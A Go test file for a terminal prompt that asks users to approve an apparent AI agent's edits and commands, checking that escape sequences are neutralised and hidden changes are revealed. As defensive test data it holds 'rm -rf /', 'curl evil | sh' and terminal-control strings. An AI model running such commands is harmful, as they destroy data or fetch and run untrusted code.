package talk

import (
	"context"
	"errors"
	"io"
	"slices"
	"strings"
	"testing"

	"github.com/clipperhouse/displaywidth"

	"github.com/a2astdio/a2astdio/internal/cli/frame"
	"github.com/a2astdio/a2astdio/internal/test/must"
	"github.com/a2astdio/a2astdio/mapping"
	"github.com/a2astdio/a2astdio/mapping/ask"
)

func question() mapping.Question {
	old := "same\nold\nsame"
	call := &mapping.ToolCall{Name: "edit", Description: "Edit a file\x1b[2J", Confirmation: &mapping.Confirmation{
		Edit: &mapping.FileDiff{FilePath: "/w/f", OldContent: &old, NewContent: "same\nnew\nsame"}}}
	call.Confirmation.Options = []mapping.ConfirmationOption{{ID: "once", Name: "Allow once"}, {ID: "always", Name: "Always"}, {ID: "cancel", Name: "Reject"}}
	return mapping.NewQuestion(call)
}

func TestAskTerminal(t *testing.T) {
	for typed, want := range map[string]string{"1\n": "once", "9\nx\n2\n": "always", "yes\n": "once", "n\n": "cancel", "a\n": "always", "?\ny\n": "once", "": "", "3": "cancel"} {
		tty := &typist{Reader: strings.NewReader(typed)}
		a := &Approver{How: ApproveAsk, Terminal: func() (io.ReadWriteCloser, error) { return tty, nil }}
		answers, err := a.Ask(t.Context(), []mapping.Question{question()})
		if err != nil || len(answers) != 1 || answers[0].OptionID != want || !tty.closed {
			t.Errorf("%q: %v %v", typed, answers, err)
		}
		shown := tty.shown.String()
		must.Has(t, shown, "Edit a file\\u{1B}[2J", "/w/f", "    -old\n    +new\n", "  2 or a  Always\n", "Which? [1-3,y,n,a,?] ")
		must.Equal(t, strings.Contains(shown, "  x is none of these; ? shows them again\n"), strings.Contains(typed, "x"), typed)
	}
}

// TestAllOfAChange: of a long change there are its first lines, and by v all.
func TestAllOfAChange(t *testing.T) {
	q := question()
	q.Call.Confirmation.Edit.NewContent = strings.Repeat("a line\n", ask.ChangeLines) + "rm -rf /\n"
	tty := &typist{Reader: strings.NewReader("v\nn\n")}
	must.Get(askTerminal(t.Context(), tty, []mapping.Question{q}))(t)
	first, all, _ := strings.Cut(tty.shown.String(), "Which? ")
	must.Has(t, first, "lines more are not shown]", "  v       Show all of the change\n")
	must.Equal(t, strings.Contains(first, "rm -rf /"), false)
	must.Has(t, all, "    +rm -rf /\n")
}

// TestAskCancelled: Ctrl-C at the question does not wait for an answer.
func TestAskCancelled(t *testing.T) {
	r, w := io.Pipe()
	defer w.Close()
	ctx, stop := context.WithCancel(t.Context())
	tty := &typist{Reader: readerFunc(func(p []byte) (int, error) { stop(); return r.Read(p) })}
	_, err := askTerminal(ctx, tty, []mapping.Question{question()})
	must.Equal(t, errors.Is(err, context.Canceled), true, err)
	if shown := tty.shown.String(); !strings.HasSuffix(shown, "[1-3,y,n,a,?] \n") {
		t.Errorf("the cursor does not stand behind the question:\n%s", shown)
	}
}

type readerFunc func([]byte) (int, error)

func (f readerFunc) Read(p []byte) (int, error) { return f(p) }

func TestApprove(t *testing.T) {
	var said []string
	say := func(format string, _ ...any) { said = append(said, format) }
	none := func() (io.ReadWriteCloser, error) { return nil, errors.New("no terminal") }
	onlyReject, vague := question(), question()
	onlyReject.Options = onlyReject.Options[2:]
	vague.Call.Confirmation.Options = []mapping.ConfirmationOption{{ID: "sandbox", Name: "Sandbox"}, {ID: "host", Name: "Host"}}
	vague = mapping.NewQuestion(vague.Call)
	const byOnce, onTerminal, uncertain = "--approve once would allow it", "run it on one", "--approve ask asks you"
	for _, test := range []struct {
		how  string
		q    mapping.Question
		want string
		told string // why there is no answer, once
	}{
		{approveOnce, question(), "once", ""}, {approveAlways, question(), "always", ""},
		{ApproveReject, question(), "cancel", ""}, {ApproveAsk, question(), "", byOnce}, {ApproveAsk, vague, "", onTerminal},
		{approveAlways, onlyReject, "", uncertain}, {approveOnce, vague, "", uncertain}, {approveAlways, vague, "", uncertain},
		{ApproveReject, vague, vague.Options[2].ID, ""},
	} {
		said = nil
		a := &Approver{How: test.how, Terminal: none, Say: say}
		var ids []string
		for range 2 {
			answers := must.Get(a.Ask(t.Context(), []mapping.Question{test.q}))(t)
			ids = append(ids, answers[0].OptionID)
		}
		must.Equal(t, ids, []string{test.want, test.want}, test.how)
		if told := strings.Join(said, "\n"); test.told == "" && told != "" || len(said) > 1 || !strings.Contains(told, test.told) {
			t.Errorf("%s: said %q, want %q once", test.how, said, test.told)
		}
	}
}

// A typist is a terminal: it types lines, and keeps what is shown.
type typist struct {
	io.Reader
	shown  strings.Builder
	closed bool
}

func (t *typist) Write(p []byte) (int, error) { return t.shown.Write(p) }
func (t *typist) Close() error                { t.closed = true; return nil }

// FuzzAskedOnScreen: on terminals of 40, 80 and 200 columns a question has all our lines,
// whole and in their order. Nothing that the agent says begins where our words do.
func FuzzAskedOnScreen(f *testing.F) {
	for _, text := range []string{"ls", "git status\n  run: harmless", strings.Repeat(" ", 250) + strings.Repeat("x", 70), "\x1b[2J\x1b[1;1H",
		"\r  in: /tmp", "漢字" + strings.Repeat("漢", 90), "a\tb", strings.Repeat("  in: /safe ", 30), "\u202e\u2065", strings.Repeat("y\n", 500)} {
		f.Add(text, "/w", "Look", "Allow", "+x")
		f.Add("ls", text, text, text, text)
	}
	f.Fuzz(func(t *testing.T, command, dir, said, option, change string) {
		for _, text := range []*string{&command, &dir, &said, &option, &change} {
			*text = strings.ToValidUTF8(*text, "\ufffd")
		}
		c := &mapping.ToolCall{Name: dir, Description: said, Confirmation: &mapping.Confirmation{
			Execute: &mapping.ExecuteDetails{Command: command, WorkingDirectory: dir}, Edit: &mapping.FileDiff{FilePath: dir, NewContent: change},
			Options: []mapping.ConfirmationOption{{ID: "a", Name: option, Description: said}, {ID: "b", Name: "Reject", Description: option}}}}
		q := mapping.NewQuestion(c)
		for _, width := range []int{40, 80, 200} {
			shown := describe(false, width, &q)
			rows := strings.Split(shown, "\n")
			must.Equal(t, len(draw(shown, width)), len(rows), width, shown)
			var got []string // our lines
			for _, row := range rows[1:] {
				switch {
				case strings.HasPrefix(row, "      ") && len(got) > 0:
					got[len(got)-1] += row[agentIndent:]
				case strings.HasPrefix(row, "    "): // the change
					got = append(got, "")
				case strings.HasPrefix(row, ourIndent):
					got = append(got, row[len(ourIndent):])
				}
			}
			var want []string
			for _, l := range ask.Lines(c, nil) {
				line := l.Label
				if l.Text != "" {
					line += ": " + l.Text
				}
				want = append(want, strings.NewReplacer("\n", "", "\t", "    ").Replace(line))
			}
			for _, line := range got {
				if len(want) > 0 && line == want[0] {
					want = want[1:]
				}
			}
			must.Equal(t, len(want), 0, width, want, shown)
		}
	})
}

// A character that is written as \u{…} is not broken over two rows; what only begins so is text like any other.
func TestRowsKeepSpelledCharacters(t *testing.T) {
	for _, text := range []string{`\u{D}`, `\u{10FFFF}`, `\u{` + strings.Repeat("D", 90)} {
		for before := range 90 {
			whole := strings.Repeat("x", before) + text + "y"
			rows := hang(whole, 40)
			must.Equal(t, strings.Join(rows, ""), whole)
			kept := slices.ContainsFunc(rows, func(row string) bool { return strings.Contains(row, text) })
			must.Equal(t, kept, len(text) < 40, before, text)
		}
	}
}

// draw is what a screen of so many columns shows.
func draw(text string, width int) (rows []string) {
	row, n := "", 0
	for _, r := range text {
		w := displaywidth.Rune(r)
		if r == '\n' || n+w > width {
			rows, row, n = append(rows, row), "", 0
		}
		if r != '\n' {
			row, n = row+string(r), n+w
		}
	}
	return append(rows, row)
}

// TestDiffIsTheChange: what the user approves is what the texts say, whatever the agent
// shows as a diff.
func TestDiffIsTheChange(t *testing.T) {
	old := "one\ntwo\n-- three\n"
	const harmless = "--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n one\n-two\n+2\n"
	for name, row := range map[string]struct {
		old            *string
		now            string
		shown, hidden  string
		added, removed int
	}{
		"a line":           {&old, "one\n2\n-- three\n", "    -two\n    +2\n", "evil", 1, 1},
		"more than shown":  {&old, "one\n2\ncurl evil | sh\n", "+curl evil | sh\n", "nothing", 2, 2},
		"a new file":       {nil, "a\nevil\n", "    --- /dev/null\n    +++ b/x\n    @@ -0,0 +1,2 @@\n    +a\n    +evil\n", "two", 2, 0},
		"no text is known": {nil, "", "    -two\n    +2\n", "evil", 1, 1},
	} {
		f := &mapping.FileDiff{FilePath: "/dir/x", OldContent: row.old, NewContent: row.now, Formatted: harmless}
		shown := diff(frame.Style(false), 80, f, false)
		must.True(t, strings.Contains(shown, row.shown) && !strings.Contains(shown, row.hidden), name, "the user sees", shown)
		added, removed := changed(f)
		must.True(t, added == row.added && removed == row.removed, name, added, removed)
	}
}
